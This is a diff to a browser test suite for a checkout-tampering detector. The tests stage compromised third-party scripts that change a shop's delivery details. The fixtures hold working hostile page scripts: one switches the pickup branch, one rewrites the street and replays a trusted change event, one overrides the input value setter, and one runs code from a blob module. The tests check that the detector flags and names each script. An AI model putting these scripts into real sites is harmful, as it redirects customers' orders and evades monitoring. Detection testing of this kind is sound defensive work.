@@ -113,11 +113,30 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     task: Parameters<typeof recordCase>[0],
     caseName: string,
     field: string,
+    /** The address of the helper's script the verdict must name. */
+    actorUrl?: string,
   ): Promise<void> {
     const verdicts = await rulesFire(saq, tabId, ['SAQ-CHK-002']);
     recordCase(task, { behaviour: BEHAVIOUR, case: caseName, malicious: true, flagged: verdicts !== null, browser });
     expect(verdicts).not.toBeNull();
-    expect(verdicts!.find((verdict) => verdict.ruleId === 'SAQ-CHK-002')!.finding.evidence).toMatchObject({ change: 'delivery', field });
+    const verdict = verdicts!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
+    expect(verdict.finding.evidence).toMatchObject({ change: 'delivery', field });
+    if (actorUrl !== undefined) expect(verdict.finding.actor.url).toBe(actorUrl);
+  }
+
+  /**
+   * The shop's checkout script with more of the shop's own code (`shopCode`), loading a helper's script `name` from
+   * the helper's CDN (a tag it compromised). Returns the helper script's address.
+   */
+  function checkoutWithHelper(name: string, helperCode: string, shopCode = ''): string {
+    const url = `https://${HELPER_CDN}/${name}.js`;
+    context.shop.setFixture(
+      STATIC.checkout,
+      `${CHECKOUT_JS}\n${shopCode}\n(function () { var s = document.createElement('script'); s.src = '${url}'; document.head.appendChild(s); })();`,
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(`/${name}.js`, helperCode, { host: HELPER_CDN, contentType: 'text/javascript' });
+    return url;
   }
 
   /** SAQ-CHK-003 fires for a field asking for this secret (a malicious case). */
@@ -204,32 +223,19 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
 
   it("catches a helper's page script switching the pickup branch with a change event, and names it", async ({ task }) => {
     // The helper rides on the shop's checkout script (a tag it compromised), loads its own and switches the branch.
-    context.shop.setFixture(
-      STATIC.checkout,
-      `${CHECKOUT_JS}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/branch.js'; document.head.appendChild(s); })();`,
-      { contentType: 'text/javascript' },
-    );
-    context.shop.setFixture(
-      '/branch.js',
+    const helper = checkoutWithHelper(
+      'branch',
       `setTimeout(function () { var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true })); }, 300);`,
-      { host: HELPER_CDN, contentType: 'text/javascript' },
     );
     const saq = await saqBrowser();
     const { tabId } = await atCheckout(saq, context.shop);
-    await deliveryCaught(saq, tabId, task, "pickup branch switched by a helper's page script (change event)", 'branch');
-    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
-    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/branch.js`);
+    await deliveryCaught(saq, tabId, task, "pickup branch switched by a helper's page script (change event)", 'branch', helper);
   });
 
   // Two bypasses a review found in the first version of the shop's own dispatches taken as the person's (stop 55).
   it("catches a helper replaying the shop's own change event after rewriting the street, and names it", async ({ task }) => {
-    context.shop.setFixture(
-      STATIC.checkout,
-      `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/replay.js'; document.head.appendChild(s); })();`,
-      { contentType: 'text/javascript' },
-    );
-    context.shop.setFixture(
-      '/replay.js',
+    const helper = checkoutWithHelper(
+      'replay',
       `(function () {
   var street = document.querySelector('input[autocomplete="street-address"]');
   var saved = null;
@@ -239,28 +245,21 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     setTimeout(function () { street.value = 'ул. Чужая, д. 13, кв. 666'; street.dispatchEvent(saved); window.__replayed = true; }, 300);
   });
 })();`,
-      { host: HELPER_CDN, contentType: 'text/javascript' },
+      SUGGESTIONS_AND_MAP,
     );
     const saq = await saqBrowser();
     const { page, tabId } = await atCheckout(saq, context.shop);
     await typeStreet(page, 'Abay 10');
     await page.click('ul.suggestions li');
     await pollPage(page, () => (window as { __replayed?: boolean }).__replayed === true, undefined, 'the helper to replay the event');
-    await deliveryCaught(saq, tabId, task, "street rewritten and the shop's own change event replayed by a helper", 'address');
-    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
-    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/replay.js`);
+    await deliveryCaught(saq, tabId, task, "street rewritten and the shop's own change event replayed by a helper", 'address', helper);
   });
 
   it("catches a helper's own accessor on the street rewriting what the shop's suggestions write through it, and names it", async ({
     task,
   }) => {
-    context.shop.setFixture(
-      STATIC.checkout,
-      `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/setter.js'; document.head.appendChild(s); })();`,
-      { contentType: 'text/javascript' },
-    );
-    context.shop.setFixture(
-      '/setter.js',
+    const helper = checkoutWithHelper(
+      'setter',
       `(function () {
   var street = document.querySelector('input[autocomplete="street-address"]');
   var native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
@@ -270,29 +269,21 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     set: function (v) { native.set.call(this, String(v).indexOf('Абая') >= 0 ? 'ул. Чужая, д. 13, кв. 666' : v); },
   });
 })();`,
-      { host: HELPER_CDN, contentType: 'text/javascript' },
+      SUGGESTIONS_AND_MAP,
     );
     const saq = await saqBrowser();
     const { page, tabId } = await atCheckout(saq, context.shop);
     await typeStreet(page, 'Abay 10');
     await page.click('ul.suggestions li');
     await pollPage(page, () => (window as { __suggested?: boolean }).__suggested === true, undefined, 'the suggestion taken');
-    await deliveryCaught(saq, tabId, task, "street rewritten by a helper's accessor as the shop's suggestions write it", 'address');
-    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
-    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/setter.js`);
+    await deliveryCaught(saq, tabId, task, "street rewritten by a helper's accessor as the shop's suggestions write it", 'address', helper);
   });
 
   it("catches the pickup branch switched from a module a helper made from a blob (the shop's origin in its address)", async ({ task }) => {
     const code = `var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true }));`;
-    context.shop.setFixture(
-      STATIC.checkout,
-      `${CHECKOUT_JS}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/blob-branch.js'; document.head.appendChild(s); })();`,
-      { contentType: 'text/javascript' },
-    );
-    context.shop.setFixture(
-      '/blob-branch.js',
+    checkoutWithHelper(
+      'blob-branch',
       `setTimeout(function () { import(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))); }, 300);`,
-      { host: HELPER_CDN, contentType: 'text/javascript' },
     );
     const saq = await saqBrowser();
     const { tabId } = await atCheckout(saq, context.shop);
